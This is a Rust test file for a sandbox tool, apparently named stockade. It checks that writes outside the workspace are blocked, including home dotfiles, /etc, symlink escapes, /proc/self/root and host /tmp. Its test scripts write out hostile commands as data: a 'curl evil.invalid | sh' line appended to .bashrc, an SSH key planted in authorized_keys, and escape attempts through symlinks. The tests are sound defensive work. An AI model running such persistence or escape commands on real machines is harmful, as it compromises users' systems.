//! Writing outside the workspace: the home directory (`.bashrc`), system directories, a
//! caller-writable directory next to the workspace, through symlinks and `/proc/self/root`;
//! the private `/tmp`; profiles and `--allow-write`. Writing inside the workspace works.

use std::fs;
use std::io::Write;

use attacks::{chmod, is_root, read_text, sh_quote, skip_unless_root, unique, Fixture};

#[test]
fn writing_inside_the_workspace_works() {
    let fx = Fixture::new();
    let script = "set -e
        echo hello > new.txt
        mkdir -p deep/er/dir
        echo nested > deep/er/dir/file.txt
        echo more >> README.md
        mv app/main.txt app/renamed.txt
        rm -f deep/er/dir/missing
        ln -s new.txt link-to-new
        cat link-to-new";
    fx.attack(&[], script).outcome().assert_shows("hello");
    assert_eq!(
        read_text(&fx.ws.join("new.txt")).as_deref(),
        Some("hello\n")
    );
    assert_eq!(
        read_text(&fx.ws.join("deep/er/dir/file.txt")).as_deref(),
        Some("nested\n")
    );
    assert!(read_text(&fx.ws.join("README.md"))
        .unwrap_or_default()
        .ends_with("more\n"));
    assert!(fx.ws.join("app/renamed.txt").exists());
    assert!(!fx.ws.join("app/main.txt").exists());
}

#[test]
fn writing_home_bashrc_is_blocked() {
    let fx = Fixture::new();
    let bashrc = fx.home.join(".bashrc");
    let before = read_text(&bashrc).expect("bashrc");
    let script = r#"echo 'curl evil.invalid | sh' >> "$HOME/.bashrc""#;
    fx.attack(&[], script).outcome().assert_failed();
    fx.attack(&[], r#"printf 'evil\n' > "$HOME/.bashrc""#)
        .outcome()
        .assert_failed();
    fx.attack(&[], r#"rm -f "$HOME/.bashrc" && test ! -e "$HOME/.bashrc""#)
        .outcome()
        .assert_failed();
    assert_eq!(
        read_text(&bashrc).as_deref(),
        Some(before.as_str()),
        "host ~/.bashrc changed"
    );
    // Control: the caller can append to it directly.
    fx.control(script).outcome().assert_ok();
    assert!(read_text(&bashrc)
        .unwrap_or_default()
        .contains("evil.invalid"));
}

#[test]
fn creating_files_in_home_is_blocked() {
    let fx = Fixture::new();
    let script = r#"echo evil > "$HOME/.profile""#;
    fx.attack(&[], script).outcome().assert_failed();
    fx.attack(&[], r#"mkdir -p "$HOME/.config/autostart""#)
        .outcome()
        .assert_failed();
    fx.attack(
        &[],
        r#"echo 'ssh-ed25519 AAAA evil' >> "$HOME/.ssh/authorized_keys""#,
    )
    .outcome()
    .assert_failed();
    assert!(
        !fx.home.join(".profile").exists(),
        "host ~/.profile created"
    );
    assert!(!fx.home.join(".config/autostart").exists());
    assert!(!fx.home.join(".ssh/authorized_keys").exists());
    fx.control(script).outcome().assert_ok();
    assert!(fx.home.join(".profile").exists());
}

#[test]
fn writing_outside_the_workspace_is_blocked() {
    let fx = Fixture::new();
    let target = fx.outside.join("target.txt");
    let script = format!("echo evil > {}", sh_quote(&target));
    fx.attack(&[], &script).outcome().assert_failed();
    let new_file = format!("echo evil > {}", sh_quote(fx.outside.join("new.txt")));
    fx.attack(&[], &new_file).outcome().assert_failed();
    let rm = format!("rm {}", sh_quote(&target));
    fx.attack(&[], &rm).outcome().assert_failed();
    assert_eq!(read_text(&target).as_deref(), Some("original\n"));
    assert!(!fx.outside.join("new.txt").exists());
    // Control.
    fx.control(&new_file).outcome().assert_ok();
    assert!(fx.outside.join("new.txt").exists());
}

#[test]
fn writing_etc_and_usr_local_bin_is_blocked() {
    let fx = Fixture::new();
    let name = format!("stockade-attack-{}", unique());
    let etc = format!("/etc/{name}");
    let bin = format!("/usr/local/bin/{name}");
    for path in [&etc, &bin] {
        let script = format!("echo evil > {path}");
        let inside = fx.attack(&[], &script).outcome();
        let exists = std::path::Path::new(path).exists();
        if exists {
            let _ = fs::remove_file(path);
        }
        inside.assert_failed();
        assert!(!exists, "{path} was created on the host by the sandbox");
    }
    // Opening an existing system file for writing (`: >>` writes nothing, so a broken
    // sandbox cannot damage the host here).
    fx.attack(&[], ": >> /etc/passwd").outcome().assert_failed();
    if skip_unless_root("control: root can write /etc and /usr/local/bin directly") {
        return;
    }
    for path in [&etc, &bin] {
        fx.control(&format!("echo x > {path} && rm {path}"))
            .outcome()
            .assert_ok();
    }
}

#[test]
fn write_through_symlink_out_of_workspace_is_blocked() {
    let fx = Fixture::new();
    let target = fx.outside.join("target.txt");
    // A symlink made inside the run.
    let script = format!(
        "rm -f esc && ln -s {} esc && echo evil > esc",
        sh_quote(&target)
    );
    fx.attack(&[], &script).outcome().assert_failed();
    assert_eq!(read_text(&target).as_deref(), Some("original\n"));
    // A directory symlink planted before the run.
    std::os::unix::fs::symlink(&fx.outside, fx.ws.join("planted-dir")).expect("symlink");
    let planted = "echo evil > planted-dir/planted.txt";
    fx.attack(&[], planted).outcome().assert_failed();
    assert!(!fx.outside.join("planted.txt").exists());
    // Through /proc/self/root.
    let proc_root = format!("echo evil > /proc/self/root{}", sh_quote(&target));
    fx.attack(&[], &proc_root).outcome().assert_failed();
    assert_eq!(read_text(&target).as_deref(), Some("original\n"));
    // Controls.
    fx.control(planted).outcome().assert_ok();
    assert!(fx.outside.join("planted.txt").exists());
    fx.control(&script).outcome().assert_ok();
    assert_eq!(read_text(&target).as_deref(), Some("evil\n"));
}

/// A file the caller has in the host's `/tmp` (0644, so only stockade keeps it out).
struct HostTmpFile(tempfile::NamedTempFile);

impl HostTmpFile {
    fn new(contents: &str) -> Self {
        let mut f = tempfile::Builder::new()
            .prefix("stockade-attacks-host.")
            .tempfile_in("/tmp")
            .unwrap_or_else(|e| panic!("temp file in /tmp: {e}"));
        f.write_all(contents.as_bytes())
            .unwrap_or_else(|e| panic!("write: {e}"));
        chmod(f.path(), 0o644);
        Self(f)
    }
}

#[test]
fn tmp_is_private_and_empty_at_start() {
    let fx = Fixture::new();
    let marker = fx.marker("hosttmp");
    let host_file = HostTmpFile::new(&format!("{marker}\n"));
    let path = sh_quote(host_file.0.path());
    let script = format!("cat {path}");
    fx.attack(&[], &script).outcome().assert_blocked(&marker);
    // Nothing at all in /tmp, and TMPDIR points there.
    let listing = "echo \"TMPDIR=$TMPDIR\"; echo \"[$(ls -A /tmp)]\"";
    let inside = fx.attack(&[], listing).outcome();
    inside.assert_ok();
    inside.run.assert_stdout_contains("TMPDIR=/tmp\n");
    inside.run.assert_stdout_contains("[]\n");
    // Control: the host file is there.
    fx.control(&script).outcome().assert_shows(&marker);
}

#[test]
fn files_written_to_sandbox_tmp_are_gone_after_the_run() {
    if attacks::not_applicable(&attacks::na::STATX) {
        return;
    }
    let fx = Fixture::new();
    let name = format!("/tmp/stockade-attacks-inside.{}", unique());
    let marker = fx.marker("insidetmp");
    let write = format!("echo {marker} > {name} && cat {name} && mkdir -p /tmp/sub/dir && ls /tmp");
    fx.attack(&[], &write).outcome().assert_shows(&marker);
    assert!(
        !std::path::Path::new(&name).exists(),
        "{name} leaked into the host /tmp"
    );
    // A second run starts from an empty /tmp again.
    fx.attack(&[], &format!("cat {name}"))
        .outcome()
        .assert_blocked(&marker);
    fx.attack(&[], "test -z \"$(ls -A /tmp)\"")
        .outcome()
        .assert_ok();
}

#[test]
fn host_dev_shm_is_neither_visible_nor_writable() {
    let fx = Fixture::new();
    let marker = fx.marker("shmfile");
    let host = tempfile::Builder::new()
        .prefix("stockade-attacks-host.")
        .tempfile_in("/dev/shm");
    let Ok(mut host) = host else {
        println!("skipped: no /dev/shm on the host");
        return;
    };
    host.write_all(marker.as_bytes()).expect("write");
    chmod(host.path(), 0o644);
    let read = format!("cat {}", sh_quote(host.path()));
    fx.attack(&[], &read).outcome().assert_blocked(&marker);
    let name = format!("/dev/shm/stockade-attacks-inside.{}", unique());
    fx.attack(&[], &format!("echo x > {name}")).outcome();
    let leaked = std::path::Path::new(&name).exists();
    let _ = fs::remove_file(&name);
    assert!(
        !leaked,
        "{name} written by the sandbox appeared on the host"
    );
    fx.control(&read).outcome().assert_shows(&marker);
}

#[test]
fn read_only_profile_blocks_workspace_writes() {
    let fx = Fixture::new();
    let script = "echo x > created-by-read-only.txt";
    fx.attack(&["--profile", "read-only"], script)
        .outcome()
        .assert_failed();
    assert!(!fx.ws.join("created-by-read-only.txt").exists());
    fx.attack(&["--profile", "read-only"], "cat README.md")
        .outcome()
        .assert_shows(&fx.marker("readme"));
    // The default profile can.
    fx.attack(&[], script).outcome().assert_ok();
    assert!(fx.ws.join("created-by-read-only.txt").exists());
}

#[test]
fn allow_write_option_grants_exactly_that_directory() {
    let fx = Fixture::new();
    let extra = fx.root.join("extra");
    attacks::mkdir(&extra);
    if is_root() {
        // The sandbox runs as another uid: only stockade may make it writable.
        chmod(&extra, 0o755);
    }
    let opt = extra.to_str().expect("utf-8 path");
    let script = format!("echo granted > {}", sh_quote(extra.join("f.txt")));
    fx.attack(&[], &script).outcome().assert_failed();
    assert!(!extra.join("f.txt").exists());
    fx.attack(&["--allow-write", opt], &script)
        .outcome()
        .assert_ok();
    assert_eq!(
        read_text(&extra.join("f.txt")).as_deref(),
        Some("granted\n")
    );
    // The sibling directory stays read-only.
    let sibling = format!("echo evil > {}", sh_quote(fx.outside.join("x.txt")));
    fx.attack(&["--allow-write", opt], &sibling)
        .outcome()
        .assert_failed();
    assert!(!fx.outside.join("x.txt").exists());
}
